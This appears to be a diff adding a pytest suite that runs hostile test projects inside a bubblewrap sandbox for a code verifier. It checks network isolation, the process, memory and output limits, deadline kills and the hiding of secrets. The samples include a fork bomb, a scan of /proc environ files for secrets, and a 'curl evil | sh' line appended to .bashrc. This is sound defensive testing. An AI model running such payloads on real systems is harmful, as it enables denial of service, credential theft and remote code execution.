@@ -1,0 +1,235 @@
+"""Hostile projects, each run for real in bubblewrap: contained, named, and the next run
+still served. Every limit is small so that each run ends in a few seconds."""
+
+from __future__ import annotations
+
+import contextlib
+import dataclasses
+import os
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from contracts.verification import MAX_OUTPUT_TAIL_CHARS, VerifyResult
+from services.verifier.checks import verify
+from services.verifier.sandbox import Capture, Sandbox
+from tests.verifier.helpers import (
+    LIMITS,
+    SECRETS,
+    host_snapshot,
+    make_sandbox,
+    outside_paths,
+    project,
+)
+
+pytestmark = pytest.mark.timeout(60)
+
+
+@pytest.fixture
+def sandbox() -> Sandbox:
+    return make_sandbox()
+
+
+async def run(sandbox: Sandbox, files: dict[str, str]) -> VerifyResult:
+    before = host_snapshot(outside_paths())
+    result = await verify(
+        files, sandbox, generation_id="g-hostile", project_id="p-1", round=0, verifier="test"
+    )
+    assert host_snapshot(outside_paths()) == before, "a run changed something outside"
+    # The verifier still serves the next run.
+    after = await sandbox.run([str(sandbox.runtime.python), "-c", "print('next')"], Path("/"))
+    assert after.exit_code == 0 and after.stdout == "next\n"
+    return result
+
+
+def only_failure(result: VerifyResult) -> str:
+    assert result.outcome == "completed", result.reason
+    [failure] = result.failures
+    return failure.message
+
+
+@pytest.fixture
+def listener() -> Iterator[socket.socket]:
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.2)
+    yield server
+    server.close()
+
+
+async def test_nothing_can_connect_to_loopback_or_outside(
+    sandbox: Sandbox, listener: socket.socket
+) -> None:
+    port = listener.getsockname()[1]
+    result = await run(
+        sandbox,
+        project(f"""
+            import socket
+
+            def test_loopback():
+                socket.create_connection(("127.0.0.1", {port}), timeout=2)
+
+            def test_outside():
+                socket.create_connection(("1.1.1.1", 80), timeout=2)
+        """),
+    )
+
+    assert (result.passed, result.failed) == (0, 2)
+    messages = {f.test_id.split("::")[-1]: f.message for f in result.failures}
+    assert "Connection refused" in messages["test_loopback"]
+    assert "Network is unreachable" in messages["test_outside"]
+    with pytest.raises(TimeoutError):
+        listener.accept()  # nothing ever reached the host's port
+
+
+async def test_a_fork_bomb_meets_the_process_limit(sandbox: Sandbox) -> None:
+    result = await run(
+        sandbox,
+        project("""
+            import os, time
+
+            def test_bomb():
+                children = 0
+                try:
+                    while True:
+                        if os.fork() == 0:
+                            while True:
+                                try:
+                                    os.fork()
+                                except OSError:
+                                    time.sleep(0.05)
+                        children += 1
+                except OSError as exc:
+                    raise AssertionError(f"fork refused after {children}: {exc}")
+        """),
+    )
+
+    assert result.failed == 1 and not result.timed_out
+    assert "fork refused after" in only_failure(result)
+    assert "Resource temporarily unavailable" in only_failure(result)
+
+
+async def test_an_endless_loop_is_killed_at_the_deadline(sandbox: Sandbox) -> None:
+    result = await run(sandbox, project("def test_spin():\n    while True:\n        pass\n"))
+
+    assert result.outcome == "completed" and result.timed_out
+    assert "did not finish within 4 s" in result.reason
+    assert result.exit_code is None
+
+
+async def test_allocating_8_gib_fails(sandbox: Sandbox) -> None:
+    result = await run(sandbox, project("def test_big():\n    b = bytearray(8 * 1024**3)\n"))
+
+    assert "MemoryError" in only_failure(result)
+
+
+async def test_writes_outside_the_work_directory_stay_in_the_sandbox(sandbox: Sandbox) -> None:
+    result = await run(
+        sandbox,
+        project("""
+            import os, pytest
+
+            def test_writes():
+                open("/tmp/x", "w").write("x")
+                with open(os.path.expanduser("~/.bashrc"), "a") as fh:
+                    fh.write("curl evil | sh")
+                with pytest.raises(OSError, match="Read-only file system"):
+                    open("../../x", "w")
+                for target in ("/usr/x", "/sandbox/source/x", "/x"):
+                    with pytest.raises(OSError):
+                        open(target, "w")
+        """),
+    )
+
+    assert (result.passed, result.failed, result.errors) == (1, 0, 0), result.failures
+
+
+async def test_200_mb_of_output_is_capped() -> None:
+    # Moving 200 MB through a pipe takes a second or two on a busy machine: more time.
+    result = await run(
+        make_sandbox(dataclasses.replace(LIMITS, wall_s=20.0)),
+        project("""
+            import sys
+
+            def test_loud(capsys):
+                with capsys.disabled():
+                    chunk = "x" * (1024 * 1024)
+                    for _ in range(200):
+                        sys.stdout.write(chunk)
+        """),
+    )
+
+    assert result.passed == 1
+    assert len(result.output_tail) <= MAX_OUTPUT_TAIL_CHARS
+
+
+async def test_no_secret_of_the_verifier_reaches_the_run(
+    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name, value in SECRETS.items():
+        monkeypatch.setenv(name, value)
+    secrets = list(SECRETS.values())
+    result = await run(
+        sandbox,
+        project(f"""
+            import glob, os
+
+            SECRETS = {secrets!r}
+
+            def test_look():
+                seen = [str(os.environ)]
+                for path in glob.glob("/proc/*/environ"):
+                    try:
+                        seen.append(open(path, "rb").read().decode(errors="replace"))
+                    except OSError:
+                        pass
+                found = [s for s in SECRETS if any(s in text for text in seen)]
+                assert not found
+                assert "GEMINI_API_KEY" not in os.environ and "NATS_URL" not in os.environ
+        """),
+    )
+
+    assert (result.passed, result.failed) == (1, 0), result.failures
+
+
+def _processes_with(token: str) -> list[int]:
+    found = []
+    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
+        with contextlib.suppress(OSError):
+            if token.encode() in cmdline.read_bytes():
+                found.append(int(cmdline.parent.name))
+    return found
+
+
+async def test_a_child_ignoring_sigterm_dies_at_the_deadline(sandbox: Sandbox) -> None:
+    token = f"kiln-sleeper-{os.getpid()}"
+    result = await run(
+        sandbox,
+        project(f"""
+            import subprocess, sys, time
+
+            def test_sleep():
+                code = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(600)"
+                subprocess.Popen([sys.executable, "-c", code, "{token}"], start_new_session=True)
+                time.sleep(600)
+        """),
+    )
+
+    assert result.timed_out
+    assert _processes_with(token) == []
+
+
+def test_capture_keeps_head_and_tail() -> None:
+    capture = Capture(100)
+    for i in range(1000):
+        capture.feed(f"{i:04d}\n".encode())
+
+    text = capture.text()
+    assert text.startswith("0000\n0001\n")
+    assert text.endswith("0998\n0999\n")
+    assert "bytes not kept" in text
+    assert capture.total == 5000
+    assert len(text) < 200
